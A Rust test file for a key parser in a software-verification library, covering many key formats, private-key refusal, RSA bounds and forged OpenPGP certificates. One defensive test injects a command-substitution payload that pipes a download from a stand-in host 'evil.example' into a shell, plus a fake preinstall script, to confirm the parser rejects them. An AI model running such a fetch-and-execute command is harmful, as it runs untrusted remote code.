//! Keys in every form: the same key is the same in all of them, and what must not be read as a key is not.
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on purpose

use rekor_verifier::bytes::{base64_decode, base64_encode, hex_encode};
use rekor_verifier::format::key::{KeyError, PublicKey, Scheme};
use serde_json::{Value, json};
use std::borrow::Cow;
use std::path::{Path, PathBuf};

mod vectors;

fn forms() -> PathBuf {
    vectors::fixtures().join("key-forms")
}

fn read(path: impl AsRef<Path>) -> Vec<u8> {
    std::fs::read(path.as_ref()).unwrap_or_else(|e| panic!("{}: {e}", path.as_ref().display()))
}

fn openpgp(name: &str) -> Vec<u8> {
    read(forms().join("openpgp").join(name))
}

fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let mut files: Vec<PathBuf> = entries.filter(|path| path.is_file()).collect();
    files.sort();
    files
}

fn name(path: &Path) -> &str {
    path.file_name().unwrap().to_str().unwrap()
}

/// Files of `key-forms/` that hold no public key: private ones, and a signature.
fn is_private(name: &str) -> bool {
    [".key", ".pkcs8.der", ".sec1.pem"].iter().any(|ending| name.ends_with(ending))
}

#[test]
fn keys_in_every_form_are_one_key() {
    for (who, forms_expected) in [("carl", 9), ("dora", 7), ("erik", 8), ("frida", 8), ("gustav", 8)] {
        let key = PublicKey::parse(&read(forms().join(format!("{who}.pub")))).unwrap();
        let of_who = |path: &PathBuf| name(path).starts_with(&format!("{who}.")) && !is_private(name(path));
        let mut seen = 0;
        for path in files(&forms()).iter().filter(|path| of_who(path) && !name(path).ends_with(".minisig")) {
            let found = PublicKey::parse(&read(path));
            assert_eq!(found.as_ref(), Ok(&key), "{}", path.display());
            assert_eq!(found.unwrap().spki_der(), key.spki_der());
            seen += 1;
        }
        assert_eq!(seen, forms_expected, "{who}");
        assert_eq!(read(forms().join(format!("{who}.spki.der"))), key.spki_der(), "openssl's DER is the canonical one");
        let crlf = key.to_pem().replace('\n', "\r\n");
        for text in [key.to_pem(), crlf, base64_encode(key.spki_der())] {
            assert_eq!(PublicKey::parse(text.as_bytes()), Ok(key.clone()), "{who}");
        }
    }
}

#[test]
fn words() {
    let dora = PublicKey::parse(&read(forms().join("dora.pub"))).unwrap();
    let file = String::from_utf8(read(forms().join("dora.minisign"))).unwrap();
    let word = file.lines().nth(1).unwrap();
    for text in [word.to_owned(), format!("  {word}\n"), hex_encode(&dora.spki_der()[12..])] {
        assert_eq!(PublicKey::parse(text.as_bytes()), Ok(dora.clone()), "{text}");
    }
    for text in ["", "hello", "abcd", "{}", "[]", "{\"keyval\": 1}", "untrusted comment: x", "Ed", "RWQ="] {
        assert_eq!(PublicKey::parse(text.as_bytes()), Err(KeyError::NotAKey), "{text:?}");
    }
    assert_eq!(PublicKey::parse(&read(forms().join("dora.minisig"))), Err(KeyError::NotAKey));
}

#[test]
fn several_keys() {
    let two = [read(forms().join("dora.openssh")), b"\n# a remark\n".to_vec(), read(forms().join("erik.openssh"))];
    assert_eq!(PublicKey::parse(&two.concat()), Err(KeyError::Several(2)));
    let names: Vec<&str> = PublicKey::parse_all(&two.concat()).unwrap().iter().map(|key| key.scheme().name()).collect();
    assert_eq!(names, ["ed25519", "ecdsa-sha2-nistp256"]);
    let chain = [read(forms().join("dora.crt")), read(forms().join("erik.crt"))].concat();
    assert_eq!(
        PublicKey::parse_all(&chain),
        Err(KeyError::Several(2)),
        "whose key is it, the holder's or the issuer's?"
    );
}

#[test]
fn a_stated_scheme_binds_the_key() {
    let schemes = |file: &str| PublicKey::parse(&read(forms().join(file))).unwrap().schemes().to_vec();
    assert_eq!(schemes("carl.pub"), [Scheme::RsaPssSha256, Scheme::RsaPkcs1Sha256, Scheme::OpenPgpRsa]);
    assert_eq!(schemes("carl.json"), [Scheme::RsaPssSha256]);
    assert_eq!(schemes("carl.pkcs1v15.json"), [Scheme::RsaPkcs1Sha256]);
    assert_eq!(schemes("dora.pub"), [Scheme::Ed25519, Scheme::OpenPgpEd25519]);
    assert_eq!(schemes("frida.old.json"), [Scheme::EcdsaP384]);
    assert_eq!(schemes("gustav.json"), [Scheme::EcdsaP521]);
    let carl = String::from_utf8(read(forms().join("carl.json"))).unwrap();
    for (found, refused) in [("rsassa-pss-sha256", "rsassa-pss-sha1"), ("\"rsa\"", "\"ecdsa\"")] {
        let changed = carl.replace(found, refused);
        assert_ne!(carl, changed);
        let error = PublicKey::parse(changed.as_bytes()).unwrap_err();
        assert!(matches!(error, KeyError::Unsupported(_) | KeyError::Malformed(_)), "{refused}: {error}");
    }
}

#[test]
fn key_ids_of_every_generation() {
    // What securesystemslib 1.6.0 computed for the same keys, and what links of older fixtures name.
    for who in ["carl", "dora", "erik", "frida", "gustav"] {
        let file = vectors::json(&forms().join(format!("{who}.json")));
        let keyids = PublicKey::parse(&read(forms().join(format!("{who}.pub")))).unwrap().keyids();
        assert!(keyids.iter().any(|id| *id == file["keyid"]), "{who}");
    }
}

#[test]
fn private_keys_are_refused() {
    let mut private: Vec<PathBuf> = files(&forms()).into_iter().filter(|path| is_private(name(path))).collect();
    private.extend(files(&vectors::fixtures().join("keys")).into_iter().filter(|path| is_private(name(path))));
    private.extend(["secret.asc", "secret.gpg"].map(|name| forms().join("openpgp").join(name)));
    assert!(private.len() > 20);
    for path in private {
        assert_eq!(PublicKey::parse(&read(&path)), Err(KeyError::PrivateKey), "{}", path.display());
    }
    let text = |path: &str| String::from_utf8(read(forms().join(path))).unwrap();
    let word = text("dora.minisign.key").lines().nth(1).unwrap().to_owned();
    let json = text("dora.json").replace("\"public\"", "\"private\": \"aa\", \"public\"");
    let parameters = "-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n".to_owned();
    for text in [word, json, parameters + &text("erik.sec1.pem")] {
        assert_eq!(PublicKey::parse(text.as_bytes()), Err(KeyError::PrivateKey), "{text}");
    }
}

#[test]
fn unsupported_keys_are_named() {
    for (file, named) in [
        ("unsupported/secp256k1.pub", "secp256k1"),
        ("unsupported/ed448.pub", "Ed448"),
        ("unsupported/x25519.pub", "X25519"),
        ("unsupported/rsa-1024.pub", "an RSA key of 1024 bits"),
        ("unsupported/rsa-pss.pub", "RSASSA-PSS"),
        ("unsupported/dsa.pub", "DSA"),
        ("unsupported/token.openssh", "security token"),
        ("openpgp/dsa.asc", "DSA"),
        ("openpgp/nistp256.gpg", "ECDSA"),
    ] {
        match PublicKey::parse(&read(forms().join(file))) {
            Err(KeyError::Unsupported(what)) => assert!(what.contains(named), "{file}: {what}"),
            other => panic!("{file}: {other:?}"),
        }
    }
    let openssh = String::from_utf8(read(forms().join("dora.openssh"))).unwrap();
    for kind in ["ssh-dss", "ssh-ed25519-cert-v01@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com"] {
        let line = openssh.replacen("ssh-ed25519", kind, 1);
        assert!(matches!(PublicKey::parse(line.as_bytes()), Err(KeyError::Unsupported(what)) if what.contains(kind)));
    }
    for version in [3, 6] {
        let mut bytes = openpgp("ed25519.gpg");
        bytes[2] = version;
        let named = format!("version {version}");
        assert!(matches!(PublicKey::parse(&bytes), Err(KeyError::Unsupported(what)) if what.contains(&named)));
    }
}

fn rsa_der(modulus: &[u8], exponent: &[u8]) -> Vec<u8> {
    let tlv = |tag: u8, value: &[u8]| {
        let length = u16::try_from(value.len()).unwrap().to_be_bytes();
        let header = if value.len() < 128 { vec![tag, length[1]] } else { [&[tag, 0x82][..], &length].concat() };
        [header, value.to_vec()].concat()
    };
    let positive = |n: &[u8]| if n[0] >= 0x80 { [&[0], n].concat() } else { n.to_vec() };
    tlv(0x30, &[tlv(2, &positive(modulus)), tlv(2, &positive(exponent))].concat())
}

#[test]
fn rsa_keys_have_bounds() {
    let read = |modulus: &[u8], exponent: &[u8]| {
        let armored = base64_encode(&rsa_der(modulus, exponent));
        PublicKey::parse(armored.as_bytes())
    };
    assert!(read(&[0xff; 256], &[3]).is_ok());
    assert!(read(&[0xff; 1024], &[1, 0, 1]).is_ok());
    assert!(read(&[0xff; 256], &[0xff; 4]).is_ok());
    for (modulus, bits) in
        [(vec![0xff; 255], 2040), (vec![0x7f; 256], 2047), ([&[1], &[0xff; 1024][..]].concat(), 8193)]
    {
        assert_eq!(read(&modulus, &[3]), Err(KeyError::Unsupported(format!("an RSA key of {bits} bits"))));
    }
    for (exponent, bits) in [(&[1, 0, 0, 0, 1][..], 33), (&[0xff; 100], 800)] {
        let refused = Err(KeyError::Unsupported(format!("an RSA key with an exponent of {bits} bits")));
        assert_eq!(read(&[0xff; 256], exponent), refused);
    }
    let even = [&[0xff; 255][..], &[0xfe]].concat();
    for (modulus, exponent) in [(&[0xff; 256][..], &[1][..]), (&[0xff; 256], &[1, 0, 0]), (&even, &[3])] {
        assert!(matches!(read(modulus, exponent), Err(KeyError::Malformed(_))), "{exponent:?}");
    }
}

#[test]
fn a_file_that_holds_more_than_a_key_is_none() {
    let text = |path: &str| String::from_utf8(read(forms().join(path))).unwrap();
    let dora = text("dora.openssh");
    let command = "$(curl -s https://evil.example | sh)";
    let carl = text("carl.json");
    let subkeys = String::from_utf8(read(vectors::fixtures().join("forms/keys/subkeys.json"))).unwrap();
    let json = [
        carl.replacen('{', r#"{"scripts":{"preinstall":"x"},"#, 1),
        carl.replacen('{', r#"{"type":{"x":"y"},"#, 1),
        carl.replacen('{', &format!(r#"{{"hashes":["{command}"],"#), 1),
        carl.replacen(r#""public""#, r#""scripts":"x","public""#, 1),
        carl.replacen(r#""public""#, &format!(r#""certificate":"{command}","public""#), 1),
        subkeys.replacen(r#""public": {"#, r#""public": {"x":"ab","#, 1),
        subkeys.replacen('{', &format!(r#"{{"subkeys":{{"{command}":{{}}}},"#), 1),
        subkeys.replacen('{', r#"{"subkeys":{"ab":{"scripts":{}}},"#, 1),
    ];
    assert!(json.iter().all(|text| *text != carl && *text != subkeys));
    let minisign = text("dora.minisign");
    let lines = [
        format!("{} {command}", dora.trim_end()),
        format!("{dora}curl https://evil.example\n"),
        format!("{dora}#!/bin/sh;x\n"),
        minisign.replacen("comment:", &format!("comment: {command}"), 1),
        format!("{minisign}{minisign}"),
        format!("{minisign}exit"),
    ];
    for text in json.iter().chain(&lines) {
        let error = PublicKey::parse_all(text.as_bytes()).unwrap_err();
        let is_named = matches!(&error, KeyError::Unsupported(what) if what.contains("curl"));
        assert!(error == KeyError::NotAKey || is_named, "{error}: {text}");
    }
    // Who armours a key says that it is one: with a text around it it is refused as that.
    let pem = text("dora.pub");
    let inside = carl.replacen("-----BEGIN", "curl -----BEGIN", 1);
    for text in [format!("{pem}curl https://evil.example | sh\n"), inside] {
        assert!(matches!(PublicKey::parse(text.as_bytes()), Err(KeyError::Malformed(_))), "{text}");
    }
    assert_eq!(PublicKey::parse(format!("curl\n{pem}").as_bytes()), Err(KeyError::NotAKey));
}

#[test]
fn ed25519_keys_of_low_order_are_refused() {
    let low_order = format!("01{}", "00".repeat(31));
    assert!(matches!(PublicKey::parse(low_order.as_bytes()), Err(KeyError::Malformed(_))));
}

#[test]
fn openpgp_certificates_give_their_signing_keys() {
    let all = |name: &str| PublicKey::parse_all(&openpgp(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
    for name in ["ed25519", "rsa", "sha384", "sha512", "expires", "revoked-user"] {
        let (armored, binary) = (all(&format!("{name}.asc")), all(&format!("{name}.gpg")));
        assert_eq!(armored, binary, "{name}");
        for key in &binary {
            assert!(key.schemes().iter().all(|scheme| scheme.is_openpgp()), "{name}");
            assert_eq!(key.keyids().last().unwrap().len(), 40, "{name}: its fingerprint is a hint");
        }
        assert_eq!(binary.len(), if name == "rsa" { 2 } else { 1 }, "{name}");
    }
    assert_eq!(PublicKey::parse(&openpgp("rsa.asc")), Err(KeyError::Several(2)));
    assert_eq!(all("two-certificates.asc").len(), 2);
    // In JSON no key says whether it signs: the primary key and the one for encryption are there too. securesystemslib
    // leaves the Ed25519 subkey of an RSA key out.
    let (certified, described) = (all("rsa.gpg"), all("rsa.json"));
    assert_eq!(described.len(), 3);
    assert_eq!(described[1], certified[0]);
    assert_eq!(described[1].keyids().last(), certified[0].keyids().last());
    assert_eq!(all("ed25519.gpg"), all("ed25519.json"));
}

#[test]
fn openpgp_expiry_is_told_and_not_judged() {
    const DAY: i64 = 86_400;
    const NEW_YEAR_2024: i64 = 1_704_067_200;
    let expires = |name: &str| -> Vec<Option<i64>> {
        PublicKey::parse_all(&openpgp(name)).unwrap().iter().map(PublicKey::expires).collect()
    };
    assert_eq!(expires("expires.gpg"), [Some(NEW_YEAR_2024 + 2 * DAY)]);
    assert_eq!(expires("rsa.gpg"), [None, Some(NEW_YEAR_2024 + (31 + 365) * DAY)]);
    assert_eq!(expires("ed25519.gpg"), [None]);
    assert_eq!(expires("ed25519.json"), [None]);
    let json = String::from_utf8(openpgp("ed25519.json")).unwrap();
    let json = json.replace("\"creation_time\"", "\"validity_period\": 172800, \"creation_time\"");
    assert_eq!(PublicKey::parse(json.as_bytes()).unwrap().expires(), Some(NEW_YEAR_2024 + 2 * DAY));
}

#[test]
fn openpgp_certificates_that_give_none() {
    let parse = |name: &str| PublicKey::parse_all(&openpgp(name));
    assert_eq!(parse("revoked.gpg"), Err(KeyError::Unusable(Cow::Borrowed("it is revoked"))));
    assert_eq!(parse("revoked-subkey.gpg"), Err(NO_KEY));
    assert_eq!(parse("only-certifies.gpg"), Err(NO_KEY));
    assert_eq!(parse("sha1.gpg"), Err(KeyError::UnsupportedHash(Cow::Borrowed("SHA-1"))));
    let signature = "-----BEGIN PGP SIGNATURE-----\n\n-----END PGP SIGNATURE-----\n";
    assert_eq!(PublicKey::parse(signature.as_bytes()), Err(KeyError::NotAKey));
}

/// A certificate's packets, each with its header. gpg writes the old format, with lengths of one or two bytes.
fn packets(bytes: &[u8]) -> Vec<Vec<u8>> {
    let mut rest = bytes;
    let mut packets = Vec::new();
    while !rest.is_empty() {
        let length = match rest[0] & 3 {
            0 => 2 + usize::from(rest[1]),
            _ => 3 + usize::from(u16::from_be_bytes([rest[1], rest[2]])),
        };
        packets.push(rest[..length].to_vec());
        rest = &rest[length..];
    }
    packets
}

const NO_SELF_SIGNATURE: KeyError = KeyError::Unusable(Cow::Borrowed("it has no valid self-signature"));
const NO_KEY: KeyError =
    KeyError::Unusable(Cow::Borrowed("none of its keys is marked, bound and unrevoked for signing"));

#[test]
fn forged_openpgp_certificates() {
    let parse = |packets: &[&[Vec<u8>]]| PublicKey::parse_all(&packets.concat().concat());
    let certifier = packets(&openpgp("only-certifies.gpg"));
    let signer = packets(&openpgp("ed25519.gpg"));
    let rsa = packets(&openpgp("rsa.gpg"));
    let (primary, subkey) = rsa.split_at(3);
    // A subkey with its binding, under a primary key that did not make it.
    assert_eq!(parse(&[&certifier, &subkey[2..4]]), Err(NO_KEY));
    // A subkey that nobody has bound; a binding that is of another subkey.
    assert_eq!(parse(&[primary, &subkey[..1]]), Err(NO_KEY));
    assert_eq!(parse(&[primary, &subkey[..1], &subkey[3..4]]), Err(NO_KEY));
    assert_eq!(parse(&[primary, &subkey[2..4]]).unwrap().len(), 1, "the twin of the three that is in order");
    // Somebody else's self-signature, and none.
    assert_eq!(parse(&[&certifier[..2], &signer[2..3]]), Err(NO_SELF_SIGNATURE));
    assert_eq!(parse(&[&signer[..2]]), Err(NO_SELF_SIGNATURE));
    // Another user's name; a key that is not there.
    let mut renamed = signer[..3].to_vec();
    *renamed[1].last_mut().unwrap() ^= 1;
    assert_eq!(parse(&[&renamed]), Err(NO_SELF_SIGNATURE));
    assert!(matches!(parse(&[&signer[1..]]), Err(KeyError::NotAKey)));
    // Somebody else's revocation is of no account, the key's own counts wherever it stands.
    let revoked = packets(&openpgp("revoked.gpg"));
    assert_eq!(parse(&[&signer[..1], &revoked[1..2], &signer[1..3]]).unwrap().len(), 1);
    assert_eq!(parse(&[&revoked]), Err(KeyError::Unusable(Cow::Borrowed("it is revoked"))));
    assert_eq!(parse(&[&revoked[..1], &revoked[2..]]).unwrap().len(), 1, "without its revocation it signs");
}

/// The position at which `part` stands in `bytes`, which it does once.
fn position(bytes: &[u8], part: &[u8]) -> usize {
    let found: Vec<usize> = (0..bytes.len()).filter(|at| bytes[*at..].starts_with(part)).collect();
    assert_eq!(found.len(), 1);
    found[0]
}

#[test]
fn a_subkey_must_agree_to_its_binding() {
    let rsa = packets(&openpgp("rsa.gpg"));
    let with_binding = |binding: Vec<u8>| {
        let certificate = [&rsa[..3], &rsa[5..6], &[binding]].concat();
        PublicKey::parse_all(&certificate.concat())
    };
    let binding = &rsa[6];
    assert_eq!(with_binding(binding.clone()).unwrap().len(), 1);
    // Its own signature stands in the part that the primary key does not sign: type 32, version 4, 0x19.
    let embedded = position(binding, &[118, 32, 4, 0x19]);
    let change = |at: usize, to: u8| {
        let mut changed = binding.clone();
        changed[at] = to;
        with_binding(changed)
    };
    assert_eq!(change(embedded + 1, 100), Err(NO_KEY), "no signature of its own");
    assert_eq!(change(embedded + 3, 0x18), Err(NO_KEY), "a signature of another type");
    assert_eq!(change(embedded + 118, binding[embedded + 118] ^ 1), Err(NO_KEY), "a wrong signature");
    assert_eq!(change(embedded + 5, 2), Err(KeyError::UnsupportedHash(Cow::Borrowed("SHA-1"))), "an outdated one");
    // The octet that names the hash of the binding itself: three bytes of header, version, type, algorithm.
    assert_eq!(change(6, 2), Err(KeyError::UnsupportedHash(Cow::Borrowed("SHA-1"))));
    assert_eq!(change(6, 8), Err(NO_KEY));
}

#[test]
fn revocations_with_a_hash_that_is_not_supported_count() {
    let mut revoked = packets(&openpgp("revoked.gpg"));
    assert_eq!(revoked[1][5], 8, "SHA-256, after a header of two bytes");
    revoked[1][5] = 2;
    assert_eq!(PublicKey::parse_all(&revoked.concat()), Err(KeyError::Unusable(Cow::Borrowed("it is revoked"))));
    let mut subkey = packets(&openpgp("revoked-subkey.gpg"));
    subkey[4][5] = 2;
    assert_eq!(PublicKey::parse_all(&subkey.concat()), Err(NO_KEY));
    subkey.remove(4);
    assert_eq!(PublicKey::parse_all(&subkey.concat()).unwrap().len(), 1, "without its revocation it signs");
    // The only user ID revoked: nothing says any more what the key is for.
    let user = packets(&openpgp("revoked-user.gpg"));
    let only = [&user[..1], &user[3..]].concat();
    assert_eq!(PublicKey::parse_all(&only.concat()), Err(NO_SELF_SIGNATURE));
    assert_eq!(PublicKey::parse_all(&[&user[..1], &user[3..4], &user[5..]].concat().concat()).unwrap().len(), 1);
}

#[test]
fn a_cut_or_changed_file_never_panics() {
    let folders = [forms(), forms().join("openpgp"), forms().join("unsupported")];
    for path in folders.iter().flat_map(|folder| files(folder)) {
        let whole = read(&path);
        for length in 0..whole.len() {
            let _ = PublicKey::parse_all(&whole[..length]);
            let mut changed = whole.clone();
            changed[length] = changed[length].wrapping_add(1 << (length % 8));
            if let Ok(keys) = PublicKey::parse_all(&changed) {
                assert!(!keys.is_empty(), "{}", path.display());
            }
        }
    }
}

#[test]
fn real_keys() {
    let Some(shared) = vectors::shared() else { return };
    let folder = shared.join("in-toto");
    for (file, expected, keyid) in [
        ("demo/alice.pub", "rsassa-pss-sha256", ""),
        ("demo/bob.pub", "rsassa-pss-sha256", "776a00e2"),
        ("demo/carl.pub", "rsassa-pss-sha256", "2f89b927"),
        ("demo/danny.pub", "ed25519", ""),
        ("first-rekor/bob.pub", "rsassa-pss-sha256", "776a00e2"),
        ("first-rekor/carl.pub", "rsassa-pss-sha256", "2f89b927"),
        ("layout/workdir/alice.pub", "rsassa-pss-sha256", ""),
    ] {
        let key = PublicKey::parse(&read(folder.join(file))).unwrap_or_else(|e| panic!("{file}: {e}"));
        assert_eq!(key.scheme().name(), expected, "{file}");
        assert!(key.keyids().iter().any(|id| id.starts_with(keyid)), "{file}");
    }
    for (layout, scheme) in [
        ("demo/demo.layout.template", "rsassa-pss-sha256"),
        ("demo-dsse/demo.layout.template", "rsassa-pss-sha256"),
        ("demo-gpg/demo.layout.template", "pgp+rsa-pkcsv1.5"),
    ] {
        let mut layout_file = vectors::json(&folder.join(layout));
        if let Some(payload) = layout_file["payload"].as_str() {
            let signed: Value = serde_json::from_slice(&base64_decode(payload).unwrap()).unwrap();
            layout_file = json!({ "signed": signed });
        }
        let keys = layout_file["signed"]["keys"].as_object().unwrap().clone();
        assert_eq!(keys.len(), 2, "{layout}");
        for (keyid, key) in keys {
            let key = PublicKey::parse(key.to_string().as_bytes()).unwrap_or_else(|e| panic!("{layout}: {e}"));
            assert_eq!(key.schemes().iter().map(|scheme| scheme.name()).collect::<Vec<_>>(), [scheme]);
            assert!(key.keyids().contains(&keyid), "{layout}: {keyid}");
        }
    }
}
